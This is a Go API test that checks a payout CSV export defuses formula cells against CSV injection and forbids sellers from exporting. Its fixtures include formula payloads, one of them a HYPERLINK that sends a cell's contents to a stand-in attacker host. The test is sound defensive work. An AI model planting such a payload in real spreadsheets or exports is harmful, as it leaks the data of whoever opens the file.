package api_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"cerebro/models/payout"
	"cerebro/rules"
)

// Every free-text cell of the payout CSV that a spreadsheet would read as a
// formula (OWASP CSV injection: =, +, -, @, tab, carriage return) is
// prefixed with a single quote; plain text and the amount are left alone.
func TestPayoutCSVNeutralisesFormulaCells(t *testing.T) {
	ctx := context.Background()
	seller := newSeller(t)
	// A period of its own, so the export holds only this test's line.
	day := time.Date(1990, 1, 1, 0, 0, 0, 0, rules.Colombo).AddDate(0, 0, int(seller.id%20000))
	p := payout.ConsultantPayout{ConsultantID: seller.id, PeriodStart: day.UTC(), PeriodEnd: day.AddDate(0, 1, 0).UTC(),
		Amount: 175000, Status: payout.Pending, AccountName: "@SUM(A1:A9)", Bank: "+94 BOC",
		Branch: `=HYPERLINK("http://evil.example/?x="&A1,"Colombo")`, Account: "-123"}
	require.NoError(t, env.store.DB.WithContext(ctx).Omit("Consultant").Create(&p).Error)

	export := func() [][]string {
		res := call(t, "GET", path("/payouts/export?periodStart=%s", rules.ColomboDate(day)), adminToken(t), nil)
		require.Equal(t, http.StatusOK, res.Status, "%s", res.Raw)
		rows, err := csv.NewReader(strings.NewReader(string(res.Raw))).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 2, "%s", res.Raw)
		return rows
	}
	assert.Equal(t, []string{"'@SUM(A1:A9)", "'+94 BOC", `'=HYPERLINK("http://evil.example/?x="&A1,"Colombo")`, "'-123", "1750.00"},
		export()[1][:5])

	for _, start := range []string{"\tTAB", "\rCR"} {
		require.NoError(t, env.store.DB.Model(&payout.ConsultantPayout{}).Where("id = ?", p.ID).
			Updates(map[string]any{"account_name": "Nimal Perera", "bank": "BOC", "branch": start, "account": "123"}).Error)
		assert.Equal(t, []string{"Nimal Perera", "BOC", "'" + start, "123"}, export()[1][:4], "%q", start)
	}
	assert.Equal(t, http.StatusForbidden, call(t, "GET", path("/payouts/export?periodStart=%s", rules.ColomboDate(day)), seller.token, nil).Status)
}
